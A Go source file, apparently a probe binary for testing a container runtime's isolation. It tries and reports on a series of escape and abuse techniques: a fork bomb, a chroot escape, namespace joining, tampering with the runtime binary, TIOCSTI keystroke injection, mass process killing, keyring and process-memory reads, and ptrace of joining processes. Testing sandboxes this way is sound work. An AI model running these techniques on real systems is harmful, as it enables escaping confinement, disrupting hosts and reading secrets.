package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// forks makes processes until it gets no more.
func forks([]string) error {
	for n := 0; ; n++ {
		pid, _, errno := unix.RawSyscall(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0)
		if errno != 0 {
			fmt.Println(n, unix.ErrnoName(errno))
			return nil
		}
		for pid == 0 {
			unix.RawSyscall6(unix.SYS_PPOLL, 0, 0, 0, 0, 0, 0)
		}
	}
}

// leaveChroot goes into a chroot with a descriptor of what is above it, and from there
// up.
func leaveChroot([]string) error {
	outside, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	if err := os.MkdirAll("/tmp/jail", 0o755); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/jail"); err != nil {
		return err
	}
	if err := unix.Fchdir(outside); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	entries, err := os.ReadDir("/")
	for _, entry := range entries {
		fmt.Println(entry.Name())
	}
	return err
}

// joinAll joins the namespaces of all processes that it sees.
func joinAll([]string) error {
	names, err := filepath.Glob("/proc/[0-9]*/ns/*")
	if err != nil || len(names) == 0 {
		return fmt.Errorf("no namespaces: %w", err)
	}
	for _, name := range names {
		namespace, err := os.Open(name)
		if err == nil {
			err = unix.Setns(int(namespace.Fd()), 0)
		}
		if err == nil {
			fmt.Println(name, "works")
		}
	}
	return nil
}

// changeProgram tries all that changes a file, and says what it could. It goes on for a
// second, because what is executed can be written to once it has ended.
func changeProgram(args []string) error {
	program := args[0]
	attempts := map[string]func() error{
		"write":    func() error { _, err := unix.Open(program, unix.O_WRONLY, 0); return err },
		"truncate": func() error { return unix.Truncate(program, 0) },
		"chmod":    func() error { return unix.Chmod(program, 0o4755) },
		"chown":    func() error { return unix.Chown(program, 1000, 1000) },
		"xattr":    func() error { return unix.Setxattr(program, "user.attack", []byte("x"), 0) },
		"time":     func() error { return unix.Utimes(program, make([]unix.Timeval, 2)) },
		"reopen": func() error {
			fd, err := unix.Open(program, unix.O_PATH, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			_, err = unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_RDWR, 0)
			return err
		},
	}
	for end := time.Now().Add(time.Second / 4); time.Now().Before(end); {
		for name, attempt := range attempts {
			if attempt() == nil {
				fmt.Println(name, "works")
			}
		}
	}
	return nil
}

// typeInto pushes a key into each terminal (ioctl_tty(2)).
func typeInto([]string) error {
	key := byte('x')
	for fd := range 3 {
		_, _, errno := unix.RawSyscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&key)))
		if errno == 0 {
			fmt.Println(fd, "works")
		}
	}
	return nil
}

// connect connects to an abstract socket.
func connect(args []string) error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err == nil {
		err = unix.Connect(fd, &unix.SockaddrUnix{Name: "@" + args[0]})
	}
	fmt.Println("connect", answer(err))
	return nil
}

// swap exchanges two names, as fast as it can.
func swap(args []string) error {
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE); err != nil {
			return err
		}
	}
}

// killAll signals what it can see, and by one call all that it may.
func killAll([]string) error {
	names, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		return err
	}
	for _, name := range names {
		if pid, err := strconv.Atoi(filepath.Base(name)); err == nil && pid != 1 && pid != os.Getpid() {
			fmt.Println("kill", pid, answer(unix.Kill(pid, unix.SIGKILL)))
		}
	}
	fmt.Println("kill -1", answer(unix.Kill(-1, unix.SIGTERM)))
	return nil
}

// readKeyring prints the keys of the session keyring, and of the one above it.
func readKeyring([]string) error {
	buffer := make([]byte, 4096)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_DESCRIBE, unix.KEY_SPEC_SESSION_KEYRING, buffer, 0)
	if err != nil {
		return err
	}
	fmt.Printf("%s\n", bytes.TrimRight(buffer[:n], "\x00"))
	if n, err = unix.KeyctlBuffer(unix.KEYCTL_READ, unix.KEY_SPEC_SESSION_KEYRING, buffer, 0); err != nil {
		return err
	}
	fmt.Println(n/4, "keys")
	return nil
}

// readMemory reads what a process has at the address of one of this one's variables.
func readMemory(args []string) error {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	var buffer [8]byte
	local := []unix.Iovec{{Base: &buffer[0], Len: uint64(len(buffer))}}
	remote := []unix.RemoteIovec{{Base: 0x400000, Len: len(buffer)}}
	_, err = unix.ProcessVMReadv(pid, local, remote, 0)
	fmt.Println("process_vm_readv", answer(err))
	fmt.Println("ptrace", answer(unix.PtraceAttach(pid)))
	_, err = os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
	fmt.Println("environ", err == nil)
	return nil
}

// traceChild does what a debugger does to a process of its own.
func traceChild() error {
	process, err := os.StartProcess("/proc/self/exe", []string{"attack", "connect", "x"}, &os.ProcAttr{Sys: &unix.SysProcAttr{Ptrace: true}})
	if err != nil {
		return err
	}
	if err := process.Kill(); err != nil {
		return err
	}
	_, err = process.Wait()
	return err
}

// watch looks at every process that appears, until it is killed: is there a moment at which
// the one that joins the container can be traced, or what it executes or has open be opened? That is a
// program which is none of the container's.
func watch(args []string) error {
	runtime.LockOSThread() // who traces is a thread
	own := map[[2]uint64]bool{}
	for _, file := range append(args, "/proc/self/exe") {
		var stat unix.Stat_t
		if err := unix.Stat(file, &stat); err != nil {
			return err
		}
		own[[2]uint64{stat.Dev, stat.Ino}] = true
	}
	fmt.Println("watching")
	for last := os.Getpid(); ; {
		newest := last
		for pid := last + 1; pid < last+64; pid++ {
			for range 200 {
				if !lookAt(pid, own) {
					break
				}
				newest = pid
			}
		}
		last = newest
	}
}

// lookAt tries what it may not do to a process. It reports whether there is one.
func lookAt(pid int, own map[[2]uint64]bool) (there bool) {
	dir := "/proc/" + strconv.Itoa(pid)
	if unix.Access(dir, unix.F_OK) != nil {
		return false
	}
	var stat unix.Stat_t
	if fd, err := unix.Open(dir+"/exe", unix.O_RDONLY, 0); err == nil {
		if unix.Fstat(fd, &stat) == nil && !own[[2]uint64{stat.Dev, stat.Ino}] {
			fmt.Println("opened the program of", pid)
		}
		unix.Close(fd)
	}
	for n := 3; n < 12; n++ {
		if target, err := os.Readlink(dir + "/fd/" + strconv.Itoa(n)); err == nil && unix.Stat(dir+"/exe", &stat) == nil && !own[[2]uint64{stat.Dev, stat.Ino}] {
			fmt.Println("found", target, "open in", pid)
		}
	}
	if unix.Stat(dir+"/exe", &stat) != nil && unix.PtraceSeize(pid) == nil {
		var status unix.WaitStatus
		if unix.PtraceInterrupt(pid) == nil {
			unix.Wait4(pid, &status, unix.WALL, nil)
		}
		if unix.Stat(dir+"/exe", &stat) == nil && !own[[2]uint64{stat.Dev, stat.Ino}] {
			fmt.Println("traces", pid)
		}
		unix.PtraceDetach(pid)
	}
	return true
}
